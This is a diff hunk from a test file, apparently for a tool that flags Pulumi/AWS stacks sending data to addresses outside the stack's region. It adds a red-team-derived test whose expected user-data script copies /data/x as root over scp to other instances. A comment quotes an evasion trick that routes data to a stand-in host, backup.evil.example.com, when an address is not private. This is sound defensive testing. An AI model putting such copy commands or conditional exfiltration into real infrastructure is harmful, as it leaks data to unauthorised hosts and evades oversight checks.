@@ -156,6 +156,15 @@ it("names the region an instance the program reads is read in, in the marks of i
   ).toEqual([{ type: "aws:ec2/eip:Eip", name: "address", output: "publicIp" }]);
 });
 
+// Red team 85 (s05): an instance in eu-west-1's default subnet was given an address of
+// 172.31.0.0/16, which every region's default VPC shares, and a copy to it read as one to a private
+// address of the stack's region.
+it("keeps the marks of the private addresses of instances in another region's default VPC", () => {
+  expect(shown(inputs("sent-abroad").userData)).toBe(
+    "#!/bin/bash\nscp /data/x root@⟨remote.privateIp⟩:/srv/\nscp /data/x root@⟨read-there.privateIp⟩:/srv/\n",
+  );
+});
+
 // Red team 85 (a32): `ip.startsWith("10.") ? ip : "backup.evil.example.com"` in a callback on an
 // instance's address kept the stand-in's side, which the pack placed where the instance is: the
 // other side was never seen, and the stack passed as sealed.
